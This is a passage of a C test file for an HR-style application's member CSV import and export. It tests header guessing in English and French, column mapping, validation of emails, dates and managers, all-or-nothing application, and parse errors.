/* test-member-csv.c — members to and from CSV: guesses, preview, all-or-nothing apply, round trip
 * SPDX-License-Identifier: GPL-3.0-or-later */
#define G_LOG_DOMAIN "test-member-csv"

#include "config.h"

#include <stdio.h>
#include <string.h>
#include <gio/gio.h>
#include <glib/gstdio.h>

#include "hc-error.h"
#include "hc-member-csv.h"
#include "hc-store.h"
#include "hc-test-fixtures.h"

typedef struct
{
  char    *dir;
  HcStore *store;
} Fixture;

static void
fixture_set_up (Fixture      *f,
                gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  g_autofree char *path = NULL;

  f->dir = g_dir_make_tmp ("headcount-member-csv-XXXXXX", &error);
  g_assert_no_error (error);
  path = g_build_filename (f->dir, "test.db", NULL);
  f->store = hc_store_new (path, &error);
  g_assert_no_error (error);
}

static void
fixture_tear_down (Fixture      *f,
                   gconstpointer data)
{
  g_assert_finalize_object (f->store);
  hc_test_remove_dir (f->dir);
  g_free (f->dir);
}

static HcMemberCsvImport *
import_data (const char *data,
             gssize      length,
             char        separator,
             GError    **error)
{
  g_autoptr (GBytes) bytes = g_bytes_new (data, length < 0 ? strlen (data) : (gsize) length);
  g_autoptr (GInputStream) stream = g_memory_input_stream_new_from_bytes (bytes);

  return hc_member_csv_import_new_from_stream (stream, separator, NULL, error);
}

static HcMemberCsvImport *
import_fixture (const char *name,
                GError    **error)
{
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "data", "csv", name, NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GFileInputStream) stream = g_file_read (file, NULL, NULL);

  g_assert_nonnull (stream);

  return hc_member_csv_import_new_from_stream (G_INPUT_STREAM (stream), 0, NULL, error);
}

static HcMember *
find_by_email (GPtrArray  *members,
               const char *email)
{
  for (guint i = 0; i < members->len; i++)
    {
      HcMember *member = g_ptr_array_index (members, i);

      if (g_strcmp0 (hc_member_get_email (member), email) == 0)
        return member;
    }

  return NULL;
}

static HcMember *
find_by_id (GPtrArray *members,
            gint64     id)
{
  for (guint i = 0; i < members->len; i++)
    {
      HcMember *member = g_ptr_array_index (members, i);

      if (hc_member_get_id (member) == id)
        return member;
    }

  return NULL;
}

static const HcMemberCsvRow *
row_at (HcMemberCsvPreview *preview,
        guint               index)
{
  g_assert_cmpuint (index, <, preview->rows->len);
  return g_ptr_array_index (preview->rows, index);
}

/* Guesses */

static const struct
{
  const char *header;
  const char *field;
} guess_cases[] = {
  { "E-mail", "email" },
  { "Email", "email" },
  { "email", "email" },
  { "  E-Mail  ", "email" },
  { "Work email", "email" },
  { "Courriel", "email" },
  { "Adresse e-mail", "email" },
  { "ADRESSE ÉLECTRONIQUE", "email" },
  { "First name", "first_name" },
  { "first_name", "first_name" },
  { "Given name", "first_name" },
  { "Prénom", "first_name" },
  { "PRENOM", "first_name" },
  { "Last name", "last_name" },
  { "Surname", "last_name" },
  { "Nom", "last_name" },
  { "Nom de famille", "last_name" },
  { "Preferred name", "preferred_name" },
  { "Prénom usuel", "preferred_name" },
  { "Title", "title" },
  { "Job title", "title" },
  { "Poste", "title" },
  { "Intitulé du poste", "title" },
  { "Fonction", "title" },
  { "Department", "department" },
  { "Département", "department" },
  { "Service", "department" },
  { "Team", "team" },
  { "Équipe", "team" },
  { "Office", "office" },
  { "Établissement", "office" },
  { "Manager", "manager" },
  { "Manager email", "manager" },
  { "Responsable hiérarchique", "manager" },
  { "N+1", "manager" },
  { "Employee ID", "employee_id" },
  { "external_id", "employee_id" },
  { "Matricule", "employee_id" },
  { "Start date", "start_date" },
  { "Hire date", "start_date" },
  { "Date d'entrée", "start_date" },
  { "Date d’arrivée", "start_date" },
  { "End date", "end_date" },
  { "Date de sortie", "end_date" },
  { "state", "state" },
  { "custom.cost_center", "custom.cost_center" },
  /* Not guessed: an HR status is no member state; "id" is a member id in
   * members --csv; a full name cannot be split safely. */
  { "Status", NULL },
  { "id", NULL },
  { "Name", NULL },
  { "Full name", NULL },
  { "hr_status", NULL },
  { "has_access", NULL },
  { "", NULL },
  { "custom.", NULL },
};

static void
test_guess (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (guess_cases); i++)
    {
      g_autofree char *field = hc_member_csv_guess_field (guess_cases[i].header);

      g_test_message ("“%s”", guess_cases[i].header);
      g_assert_cmpstr (field, ==, guess_cases[i].field);
      if (field != NULL)
        g_assert_true (hc_member_csv_field_is_valid (field));
    }
}

/* The export header maps back onto itself, column by column. */
static void
test_guess_export_header (void)
{
  g_auto (GStrv) columns = g_strsplit (HC_MEMBER_CSV_EXPORT_HEADER, ",", -1);

  g_assert_cmpuint (g_strv_length (columns), ==, 15);
  for (guint i = 0; columns[i] != NULL; i++)
    {
      g_autofree char *field = hc_member_csv_guess_field (columns[i]);

      if (g_str_equal (columns[i], "hr_status") || g_str_equal (columns[i], "has_access"))
        g_assert_null (field);
      else if (g_str_equal (columns[i], "employee_id"))
        g_assert_cmpstr (field, ==, "employee_id");
      else
        g_assert_cmpstr (field, ==, columns[i]);
    }
}

static void
test_field_is_valid (void)
{
  for (const char * const *f = hc_member_csv_list_fields (); *f != NULL; f++)
    g_assert_true (hc_member_csv_field_is_valid (*f));

  g_assert_true (hc_member_csv_field_is_valid ("custom.coût"));
  g_assert_false (hc_member_csv_field_is_valid ("custom."));
  g_assert_false (hc_member_csv_field_is_valid ("hr_status"));
  g_assert_false (hc_member_csv_field_is_valid ("id"));
  g_assert_false (hc_member_csv_field_is_valid ("Email"));
  g_assert_false (hc_member_csv_field_is_valid (""));
  g_assert_false (hc_member_csv_field_is_valid (NULL));
}

/* The mapping step */

static void
test_mapping (void)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (HcMemberCsvImport) import = import_fixture ("members-odd-header.csv", &error);
  g_autoptr (HcMemberCsvPreview) preview = NULL;
  const HcMemberCsvRow *row;

  g_assert_no_error (error);
  g_assert_cmpint (hc_member_csv_import_get_separator (import), ==, ';');
  g_assert_cmpuint (hc_member_csv_import_get_n_columns (import), ==, 4);
  g_assert_cmpstr (hc_member_csv_import_get_column_name (import, 3), ==, "Coût");
  /* "Fonction" is a title; nothing else is recognised. */
  g_assert_null (hc_member_csv_import_get_column_field (import, 0));
  g_assert_null (hc_member_csv_import_get_column_field (import, 1));
  g_assert_cmpstr (hc_member_csv_import_get_column_field (import, 2), ==, "title");
  g_assert_null (hc_member_csv_import_get_column_field (import, 3));

  /* Nothing says who the members are. */
  g_assert_null (hc_member_csv_import_preview (import, NULL, &error));
  g_assert_error (error, HC_ERROR, HC_ERROR_INVALID_ARGUMENT);
  g_assert_nonnull (strstr (error->message, "“Adresse pro”"));
  g_clear_error (&error);

  /* Columns are found exactly, or ignoring case and accents. */
  g_assert_cmpint (hc_member_csv_import_find_column (import, "Adresse pro"), ==, 0);
  g_assert_cmpint (hc_member_csv_import_find_column (import, "adresse PRO"), ==, 0);
  g_assert_cmpint (hc_member_csv_import_find_column (import, "cout"), ==, 3);
  g_assert_cmpint (hc_member_csv_import_find_column (import, "ADRESSE-PRO"), ==, 0);
  g_assert_cmpint (hc_member_csv_import_find_column (import, "--"), ==, -1);
  g_assert_cmpint (hc_member_csv_import_find_column (import, "Nope"), ==, -1);

  g_assert_false (hc_member_csv_import_set_column_field (import, 0, "e-mail", &error));
  g_assert_error (error, HC_ERROR, HC_ERROR_INVALID_ARGUMENT);
  g_clear_error (&error);
  g_assert_null (hc_member_csv_import_get_column_field (import, 0));

  g_assert_true (hc_member_csv_import_set_column_field (import, 0, "email", &error));
  g_assert_true (hc_member_csv_import_set_column_field (import, 1, "first_name", &error));
  g_assert_true (hc_member_csv_import_set_column_field (import, 3, "custom.cost_center", &error));
  g_assert_no_error (error);

  /* A field moves: the column that had it loses it. */
  g_assert_true (hc_member_csv_import_set_column_field (import, 1, "title", &error));
  g_assert_cmpstr (hc_member_csv_import_get_column_field (import, 1), ==, "title");
  g_assert_null (hc_member_csv_import_get_column_field (import, 2));
  g_assert_true (hc_member_csv_import_set_column_field (import, 1, "first_name", &error));
  g_assert_true (hc_member_csv_import_set_column_field (import, 2, "title", &error));
  /* "" leaves a column out. */
  g_assert_true (hc_member_csv_import_set_column_field (import, 2, "", &error));
  g_assert_null (hc_member_csv_import_get_column_field (import, 2));

  preview = hc_member_csv_import_preview (import, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (preview->n_new, ==, 1);
  row = row_at (preview, 0);
  g_assert_cmpuint (row->line, ==, 2);
  g_assert_cmpstr (hc_member_get_email (row->member), ==, "ana@example.org");
  g_assert_cmpstr (hc_member_get_first_name (row->member), ==, "Ana");
  g_assert_null (hc_member_get_title (row->member));
  g_assert_cmpstr (hc_member_get_field (row->member, "custom.cost_center"), ==, "CC-1");
}

/* The header of a file in English: names guessed, managers by e-mail and by name. */
static void
test_import_english (Fixture      *f,
                     gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (HcMemberCsvImport) import = import_fixture ("members-english.csv", &error);
  g_autoptr (HcMemberCsvPreview) preview = NULL;
  g_autoptr (GPtrArray) stored = NULL;
  static const char * const fields[] = {
    "email", "first_name", "last_name", "title", "department", "manager", "start_date",
  };
  HcMember *ana, *bob, *cid;
  guint n = 0;

  g_assert_no_error (error);
  g_assert_cmpint (hc_member_csv_import_get_separator (import), ==, ',');
  g_assert_false (hc_member_csv_import_had_bom (import));
  g_assert_cmpuint (hc_member_csv_import_get_n_records (import), ==, 3);
  for (guint c = 0; c < G_N_ELEMENTS (fields); c++)
    g_assert_cmpstr (hc_member_csv_import_get_column_field (import, c), ==, fields[c]);

  preview = hc_member_csv_import_preview (import, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (preview->n_new, ==, 3);
  g_assert_cmpuint (preview->n_rejected, ==, 0);
  g_assert_cmpuint (preview->n_warnings, ==, 0);
  g_assert_null (row_at (preview, 0)->manager);
  g_assert_true (row_at (preview, 1)->manager == row_at (preview, 0)->member);
  /* "Bob Martin": by name */
  g_assert_true (row_at (preview, 2)->manager == row_at (preview, 1)->member);
  g_assert_cmpuint (row_at (preview, 2)->line, ==, 4);

  g_assert_true (hc_member_csv_preview_apply (preview, f->store, FALSE, &n, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n, ==, 3);
  g_assert_cmpint (hc_member_get_id (row_at (preview, 0)->member), >, 0);

  stored = hc_store_list_members (f->store, &error);
  g_assert_cmpuint (stored->len, ==, 3);
  ana = find_by_email (stored, "ana@example.org");
  bob = find_by_email (stored, "bob@example.org");
  cid = find_by_email (stored, "cid@example.org");
  g_assert_nonnull (ana);
  g_assert_nonnull (bob);
  g_assert_nonnull (cid);
  g_assert_cmpint (hc_member_get_manager_id (ana), ==, 0);
  g_assert_cmpint (hc_member_get_manager_id (bob), ==, hc_member_get_id (ana));
  g_assert_cmpint (hc_member_get_manager_id (cid), ==, hc_member_get_id (bob));
  g_assert_cmpstr (hc_member_get_title (bob), ==, "Developer");
  g_assert_cmpstr (hc_member_get_department (bob), ==, "Engineering");
  g_assert_cmpstr (hc_member_get_field (bob, "start_date"), ==, "2021-09-15");
  g_assert_null (hc_member_get_field (cid, "start_date"));
  for (guint i = 0; i < stored->len; i++)
    {
      HcMember *member = g_ptr_array_index (stored, i);

      /* rules.md 10: manual members. */
      g_assert_cmpint (hc_member_get_hr_status (member), ==, HC_HR_STATUS_MANUAL);
      g_assert_cmpint (hc_member_get_connector_id (member), ==, 0);
      g_assert_cmpint (hc_member_get_state (member), ==, HC_MEMBER_STATE_ACTIVE);
      g_assert_true (hc_member_get_has_access (member));
    }

  /* Once only. */
  g_assert_false (hc_member_csv_preview_apply (preview, f->store, FALSE, NULL, &error));
  g_assert_error (error, HC_ERROR, HC_ERROR_INVALID_ARGUMENT);
  g_assert_cmpuint (hc_store_count_members (f->store, -1), ==, 3);
}

/* BOM, ";", accents, a quoted ";" and ",", a manager in other case, Matricule. */
static void
test_import_french (Fixture      *f,
                    gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (HcMemberCsvImport) import = import_fixture ("members-french.csv", &error);
  g_autoptr (HcMemberCsvPreview) preview = NULL;
  g_autoptr (GPtrArray) stored = NULL;
  HcMember *zoe, *chloe, *elodie;

  g_assert_no_error (error);
  g_assert_cmpint (hc_member_csv_import_get_separator (import), ==, ';');
  g_assert_true (hc_member_csv_import_had_bom (import));
  g_assert_cmpstr (hc_member_csv_import_get_column_name (import, 0), ==, "Courriel");
  g_assert_cmpstr (hc_member_csv_import_get_column_field (import, 0), ==, "email");
  g_assert_cmpstr (hc_member_csv_import_get_column_field (import, 1), ==, "first_name");
  g_assert_cmpstr (hc_member_csv_import_get_column_field (import, 2), ==, "last_name");
  g_assert_cmpstr (hc_member_csv_import_get_column_field (import, 3), ==, "title");
  g_assert_cmpstr (hc_member_csv_import_get_column_field (import, 4), ==, "department");
  g_assert_cmpstr (hc_member_csv_import_get_column_field (import, 5), ==, "manager");
  g_assert_cmpstr (hc_member_csv_import_get_column_field (import, 6), ==, "employee_id");

  preview = hc_member_csv_import_preview (import, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (preview->n_new, ==, 3);
  g_assert_true (hc_member_csv_preview_apply (preview, f->store, FALSE, NULL, &error));
  g_assert_no_error (error);

  stored = hc_store_list_members (f->store, &error);
  zoe = find_by_email (stored, "zoe@example.fr");
  chloe = find_by_email (stored, "chloe@example.fr");
  elodie = find_by_email (stored, "élodie@example.fr");
  g_assert_nonnull (zoe);
  g_assert_nonnull (chloe);
  g_assert_nonnull (elodie);
  g_assert_cmpstr (hc_member_get_first_name (zoe), ==, "Zoé");
  g_assert_cmpstr (hc_member_get_last_name (zoe), ==, "Leïla-Brontë");
  g_assert_cmpstr (hc_member_get_title (zoe), ==, "Directrice générale");
  g_assert_cmpstr (hc_member_get_external_id (zoe), ==, "E001");
  g_assert_cmpstr (hc_member_get_last_name (chloe), ==, "Dupont; Martin");
  g_assert_cmpstr (hc_member_get_title (chloe), ==, "Cheffe de projet, export");
  g_assert_cmpstr (hc_member_get_last_name (elodie), ==, "Łukasz");
  g_assert_cmpint (hc_member_get_manager_id (chloe), ==, hc_member_get_id (zoe));
  /* "CHLOE@example.fr" */
  g_assert_cmpint (hc_member_get_manager_id (elodie), ==, hc_member_get_id (chloe));
}

typedef struct
{
  guint             line;
  HcMemberCsvReason reason;
  guint             duplicate_of;
} RowCase;

/* members-invalid.csv, line by line; line 4 (",,,") is empty, so no row. */
static const RowCase invalid_rows[] = {
  { 2, HC_MEMBER_CSV_OK, 0 },
  { 3, HC_MEMBER_CSV_INVALID_EMAIL, 0 },
  { 5, HC_MEMBER_CSV_NO_IDENTITY, 0 },
  { 6, HC_MEMBER_CSV_DUPLICATE, 2 },
  { 7, HC_MEMBER_CSV_MALFORMED, 0 },
  { 8, HC_MEMBER_CSV_OK, 0 },
  { 9, HC_MEMBER_CSV_INVALID_VALUE, 0 },
  { 10, HC_MEMBER_CSV_OK, 0 },
};

static void
check_invalid_preview (HcMemberCsvPreview *preview)
{
  g_assert_cmpuint (preview->rows->len, ==, G_N_ELEMENTS (invalid_rows));
  g_assert_cmpuint (preview->n_new, ==, 3);
  g_assert_cmpuint (preview->n_rejected, ==, 5);

  for (gsize i = 0; i < G_N_ELEMENTS (invalid_rows); i++)
    {
      const HcMemberCsvRow *row = row_at (preview, i);
      g_autofree char *prefix = g_strdup_printf ("Line %u: ", invalid_rows[i].line);

      g_test_message ("line %u: %s", row->line, row->message);
      g_assert_cmpuint (row->line, ==, invalid_rows[i].line);
      g_assert_cmpint (row->reason, ==, invalid_rows[i].reason);
      g_assert_cmpuint (row->duplicate_of, ==, invalid_rows[i].duplicate_of);
      if (row->reason == HC_MEMBER_CSV_OK)
        g_assert_null (row->message);
      else
        g_assert_true (g_str_has_prefix (row->message, prefix));
    }
}

/* Nothing is imported when a line is invalid, unless asked. */
static void
test_import_all_or_nothing (Fixture      *f,
                            gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (HcMemberCsvImport) import = import_fixture ("members-invalid.csv", &error);
  g_autoptr (HcMemberCsvPreview) preview = NULL;
  g_autoptr (GPtrArray) stored = NULL;
  HcMember *dee = NULL;
  guint n = 99;

  g_assert_no_error (error);
  preview = hc_member_csv_import_preview (import, NULL, &error);
  g_assert_no_error (error);
  check_invalid_preview (preview);
  g_assert_nonnull (strstr (row_at (preview, 1)->message, "not-an-email"));
  g_assert_nonnull (strstr (row_at (preview, 6)->message, "retired"));

  g_assert_false (hc_member_csv_preview_apply (preview, f->store, FALSE, &n, &error));
  g_assert_error (error, HC_ERROR, HC_ERROR_PARSE);
  g_assert_nonnull (strstr (error->message, "5 lines"));
  g_clear_error (&error);
  g_assert_cmpuint (n, ==, 0);
  g_assert_cmpuint (hc_store_count_members (f->store, -1), ==, 0);
  g_assert_false (preview->applied);

  g_assert_true (hc_member_csv_preview_apply (preview, f->store, TRUE, &n, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n, ==, 3);

  stored = hc_store_list_members (f->store, &error);
  g_assert_cmpuint (stored->len, ==, 3);
  g_assert_nonnull (find_by_email (stored, "ana@example.org"));
  g_assert_cmpint (hc_member_get_state (find_by_email (stored, "fay@example.org")), ==,
                   HC_MEMBER_STATE_INVITED);
  for (guint i = 0; i < stored->len; i++)
    {
      if (g_strcmp0 (hc_member_get_first_name (g_ptr_array_index (stored, i)), "Dee") == 0)
        dee = g_ptr_array_index (stored, i);
    }
  /* A member without e-mail has no access (rules.md 6). */
  g_assert_nonnull (dee);
  g_assert_null (hc_member_get_email (dee));
  g_assert_false (hc_member_get_has_access (dee));
  g_assert_true (hc_member_get_has_access (find_by_email (stored, "ana@example.org")));
}

/* Members of the directory, matched by e-mail case-insensitively or by
 * employee id, are rejected, and can still be managers. */
static void
test_import_existing (Fixture      *f,
                      gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (HcMember) ana = hc_test_member ("0||ANA@Example.ORG|Ana|Lopez|active|manual");
  g_autoptr (HcMember) other = hc_test_member ("0|E002|someone@example.fr|Some|One|archived|managed");
  g_autoptr (GPtrArray) existing = NULL;
  g_autoptr (HcMemberCsvImport) english = NULL;
  g_autoptr (HcMemberCsvImport) french = NULL;
  g_autoptr (HcMemberCsvPreview) preview = NULL;
  g_autoptr (GPtrArray) stored = NULL;
  const HcMemberCsvRow *row;

  g_assert_true (hc_store_add_member (f->store, ana, &error));
  g_assert_true (hc_store_add_member (f->store, other, &error));
  g_assert_no_error (error);
  existing = hc_store_list_members (f->store, &error);

  english = import_fixture ("members-english.csv", &error);
  preview = hc_member_csv_import_preview (english, existing, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (preview->n_new, ==, 2);
  g_assert_cmpuint (preview->n_rejected, ==, 1);
  row = row_at (preview, 0);
  g_assert_cmpint (row->reason, ==, HC_MEMBER_CSV_EXISTS);
  g_assert_cmpint (row->existing_id, ==, hc_member_get_id (ana));
  g_assert_cmpstr (row->message, ==, "Line 2: ana@example.org is already a member (Ana Lopez)");
  /* Bob's manager is the Ana of the directory. */
  row = row_at (preview, 1);
  g_assert_cmpint (row->reason, ==, HC_MEMBER_CSV_OK);
  g_assert_nonnull (row->manager);
  g_assert_cmpint (hc_member_get_id (row->manager), ==, hc_member_get_id (ana));

  g_assert_true (hc_member_csv_preview_apply (preview, f->store, TRUE, NULL, &error));
  g_assert_no_error (error);
  stored = hc_store_list_members (f->store, &error);
  g_assert_cmpuint (stored->len, ==, 4);
  g_assert_cmpint (hc_member_get_manager_id (find_by_email (stored, "bob@example.org")), ==,
                   hc_member_get_id (ana));
  g_clear_pointer (&preview, hc_member_csv_preview_free);

  /* Employee id E002 is taken, even by an archived member. */
  french = import_fixture ("members-french.csv", &error);
  preview = hc_member_csv_import_preview (french, stored, &error);
  g_assert_no_error (error);
  row = row_at (preview, 1);
  g_assert_cmpint (row->reason, ==, HC_MEMBER_CSV_EXISTS);
  g_assert_cmpint (row->existing_id, ==, hc_member_get_id (other));
  g_assert_nonnull (strstr (row->message, "E002"));
  /* Élodie's manager was Chloé, who is not imported. */
  row = row_at (preview, 2);
  g_assert_cmpint (row->reason, ==, HC_MEMBER_CSV_OK);
  g_assert_null (row->manager);
  g_assert_cmpstr (row->warning, ==, "Line 4: the manager “CHLOE@example.fr” is on line 3, which is not imported");
}

/* Managers: unknown, ambiguous, oneself, forward references. */
static void
test_import_managers (Fixture      *f,
                      gconstpointer data)
{
  const char *text =
    "email,first_name,last_name,manager\n"
    "a@example.org,Ann,Lee,c@example.org\n"        /* 2: forward reference */
    "b@example.org,Ben,Kay,nobody@example.org\n"   /* 3: unknown e-mail */
    "c@example.org,Cy,Ng,Sam Smith\n"              /* 4: two Sam Smiths */
    "d@example.org,Sam,Smith,d@example.org\n"      /* 5: oneself */
    "e@example.org,Sam,Smith,  ann lee  \n"        /* 6: by name, any case */
    "f@example.org,Fay,Wu,Nobody Here\n";          /* 7: unknown name */
  g_autoptr (GError) error = NULL;
  g_autoptr (HcMemberCsvImport) import = import_data (text, -1, 0, &error);
  g_autoptr (HcMemberCsvPreview) preview = hc_member_csv_import_preview (import, NULL, &error);
  g_autoptr (GPtrArray) stored = NULL;

  g_assert_no_error (error);
  g_assert_cmpuint (preview->n_new, ==, 6);
  g_assert_cmpuint (preview->n_warnings, ==, 4);
  g_assert_true (row_at (preview, 0)->manager == row_at (preview, 2)->member);
  g_assert_null (row_at (preview, 0)->warning);
  g_assert_null (row_at (preview, 1)->manager);
  g_assert_cmpstr (row_at (preview, 1)->warning, ==, "Line 3: no member is “nobody@example.org”, so no manager is set");
  g_assert_null (row_at (preview, 2)->manager);
  g_assert_cmpstr (row_at (preview, 2)->warning, ==, "Line 4: several members are named “Sam Smith”, so no manager is set");
  g_assert_null (row_at (preview, 3)->manager);
  g_assert_cmpstr (row_at (preview, 3)->warning, ==, "Line 5: a member cannot be their own manager");
  g_assert_true (row_at (preview, 4)->manager == row_at (preview, 0)->member);
  g_assert_nonnull (strstr (row_at (preview, 5)->warning, "Line 7: "));

  /* Warnings do not block. */
  g_assert_true (hc_member_csv_preview_apply (preview, f->store, FALSE, NULL, &error));
  g_assert_no_error (error);
  stored = hc_store_list_members (f->store, &error);
  g_assert_cmpint (hc_member_get_manager_id (find_by_email (stored, "a@example.org")), ==,
                   hc_member_get_id (find_by_email (stored, "c@example.org")));
  g_assert_cmpint (hc_member_get_manager_id (find_by_email (stored, "e@example.org")), ==,
                   hc_member_get_id (find_by_email (stored, "a@example.org")));
  g_assert_cmpint (hc_member_get_manager_id (find_by_email (stored, "d@example.org")), ==, 0);
}

typedef struct
{
  const char       *email;
  HcMemberCsvReason reason;
} EmailCase;

static const EmailCase email_cases[] = {
  { "ana@example.org", HC_MEMBER_CSV_OK },
  { "ana.lopez+hr@sub.example.co.uk", HC_MEMBER_CSV_OK },
  { "zoé@exemple.fr", HC_MEMBER_CSV_OK },
  { "  padded@example.org  ", HC_MEMBER_CSV_OK },
  { "ana", HC_MEMBER_CSV_INVALID_EMAIL },
  { "ana@", HC_MEMBER_CSV_INVALID_EMAIL },
  { "@example.org", HC_MEMBER_CSV_INVALID_EMAIL },
  { "ana@example", HC_MEMBER_CSV_INVALID_EMAIL },
  { "ana@@example.org", HC_MEMBER_CSV_INVALID_EMAIL },
  { "a@b@example.org", HC_MEMBER_CSV_INVALID_EMAIL },
  { "ana lopez@example.org", HC_MEMBER_CSV_INVALID_EMAIL },
  { "ana@.example.org", HC_MEMBER_CSV_INVALID_EMAIL },
  { "ana@example.org.", HC_MEMBER_CSV_INVALID_EMAIL },
  { "ana..lopez@example.org", HC_MEMBER_CSV_INVALID_EMAIL },
  { "Ana <ana@example.org>", HC_MEMBER_CSV_INVALID_EMAIL },
  { "ana@example.org;bob@example.org", HC_MEMBER_CSV_INVALID_EMAIL },
  /* rules.md 31: hidden and control characters make no address */
  { "ana\xe2\x80\x8b@example.org", HC_MEMBER_CSV_INVALID_EMAIL },
  { "ana@exa\xe2\x80\xaemple.org", HC_MEMBER_CSV_INVALID_EMAIL },
  { "ana\xc2\x9b@example.org", HC_MEMBER_CSV_INVALID_EMAIL },
};

static void
test_import_emails (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (email_cases); i++)
    {
      const char *fields[] = { email_cases[i].email, "Name" };
      g_autoptr (GString) text = g_string_new (NULL);
      g_autoptr (GError) error = NULL;
      g_autoptr (HcMemberCsvImport) import = NULL;
      g_autoptr (HcMemberCsvPreview) preview = NULL;

      g_test_message ("“%s”", email_cases[i].email);
      hc_csv_append_row (text, ';', (const char *[]) { "Courriel", "Nom" }, 2);
      hc_csv_append_row (text, ';', fields, 2);
      import = import_data (text->str, text->len, 0, &error);
      g_assert_no_error (error);
      preview = hc_member_csv_import_preview (import, NULL, &error);
      g_assert_no_error (error);
      g_assert_cmpint (row_at (preview, 0)->reason, ==, email_cases[i].reason);
    }
}

typedef struct
{
  const char       *line;
  HcMemberCsvReason reason;
} ValueCase;

static const ValueCase value_cases[] = {
  { "a@example.org,2024-02-29,,active", HC_MEMBER_CSV_OK },
  { "a@example.org,,2030-12-31,ARCHIVED", HC_MEMBER_CSV_OK },
  { "a@example.org,,,Invité", HC_MEMBER_CSV_OK },
  { "a@example.org,,,", HC_MEMBER_CSV_OK },
  { "a@example.org,2023-02-29,,", HC_MEMBER_CSV_INVALID_VALUE },
  { "a@example.org,03/02/2024,,", HC_MEMBER_CSV_INVALID_VALUE },
  { "a@example.org,,2024-1-5,", HC_MEMBER_CSV_INVALID_VALUE },
  { "a@example.org,,,inactive", HC_MEMBER_CSV_INVALID_VALUE },
  /* The first problem wins. */
  { "bad,2023-02-29,,", HC_MEMBER_CSV_INVALID_EMAIL },
  { ",,,", HC_MEMBER_CSV_OK },   /* an empty line: no row at all, see below */
};

static void
test_import_values (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (value_cases); i++)
    {
      g_autofree char *text = g_strdup_printf ("email,start_date,end_date,state\n%s\n", value_cases[i].line);
      g_autoptr (GError) error = NULL;
      g_autoptr (HcMemberCsvImport) import = import_data (text, -1, 0, &error);
      g_autoptr (HcMemberCsvPreview) preview = NULL;

      g_test_message ("%s", value_cases[i].line);
      g_assert_no_error (error);
      preview = hc_member_csv_import_preview (import, NULL, &error);
      g_assert_no_error (error);
      if (g_str_equal (value_cases[i].line, ",,,"))
        {
          g_assert_cmpuint (preview->rows->len, ==, 0);
          continue;
        }
      g_assert_cmpint (row_at (preview, 0)->reason, ==, value_cases[i].reason);
    }
}

/* Files the import refuses whole, naming the line. */
static void
test_import_fatal (void)
{
  static const struct
  {
    const char *file;
    GQuark      domain;
    int         code;
    const char *message_start;
  } cases[] = {
    { "empty.csv", 0, HC_ERROR_PARSE, "The file is empty" },
    { "bom-only.csv", 0, HC_ERROR_PARSE, "The file is empty" },
    { "unterminated-quote-end.csv", 0, HC_CSV_ERROR_UNTERMINATED_QUOTE, "Line 3: " },
    { "unterminated-quote-middle.csv", 0, HC_CSV_ERROR_UNTERMINATED_QUOTE, "Line 2: " },
    { "utf16.csv", 0, HC_CSV_ERROR_INVALID_UTF8, "Line 1: " },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr (GError) error = NULL;
      g_autoptr (HcMemberCsvImport) import = import_fixture (cases[i].file, &error);
      GQuark domain = g_str_has_prefix (cases[i].message_start, "Line") ? HC_CSV_ERROR : HC_ERROR;

      g_test_message ("%s", cases[i].file);
      g_assert_null (import);
      g_assert_error (error, domain, cases[i].code);
      g_assert_true (g_str_has_prefix (error->message, cases[i].message_start));
    }

  {
    /* A header in Latin-1 */
    g_autoptr (GError) error = NULL;
    g_autoptr (HcMemberCsvImport) import = import_data ("Pr\xe9nom,Nom\nA,B\n", -1, 0, &error);

    g_assert_null (import);
    g_assert_error (error, HC_ERROR, HC_ERROR_PARSE);
    g_assert_true (g_str_has_prefix (error->message, "Line 1: "));
  }
}

/* A header and nothing else imports nothing, successfully. */
static void
test_import_header_only (Fixture      *f,
                         gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (HcMemberCsvImport) import = import_fixture ("header-only-no-newline.csv", &error);
  g_autoptr (HcMemberCsvPreview) preview = NULL;
  guint n = 99;

  g_assert_no_error (error);
  g_assert_cmpuint (hc_member_csv_import_get_n_records (import), ==, 0);
  preview = hc_member_csv_import_preview (import, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (preview->rows->len, ==, 0);
  g_assert_true (hc_member_csv_preview_apply (preview, f->store, FALSE, &n, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n, ==, 0);
  g_assert_cmpuint (hc_store_count_members (f->store, -1), ==, 0);
}

/* Export */

static GPtrArray *
seed_tricky_members (HcStore *store)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (HcMember) boss = hc_test_member ("0|E1|zoe@example.fr|Zoé|Leïla-Brontë|active|managed|0|Directrice, \"générale\"");
  g_autoptr (HcMember) quiet = hc_test_member ("0|||Ønd|Ærø|active|manual|0|Sans e-mail");
  g_autoptr (HcMember) dev = hc_test_member ("0|E2|chloe@example.fr|Chloé|Dupont; Martin|invited|manual|0|Dev\nsenior");
  g_autoptr (HcMember) gone = hc_test_member ("0||old@example.org|Old|Timer|archived|previously_managed");
  g_autoptr (GPtrArray) members = g_ptr_array_new ();
  g_autoptr (GPtrArray) managers = g_ptr_array_new ();

  hc_member_set_has_access (quiet, FALSE);
  hc_member_set_field (boss, "custom.cost_center", "CC, 1");
  hc_member_set_field (boss, "department", "Direction");
  hc_member_set_field (boss, "preferred_name", "Zozo");
  hc_member_set_field (boss, "team", "Équipe \"A\"");
  hc_member_set_field (boss, "office", "Paris\r\nLa Défense");
  hc_member_set_field (boss, "start_date", "2019-03-01");
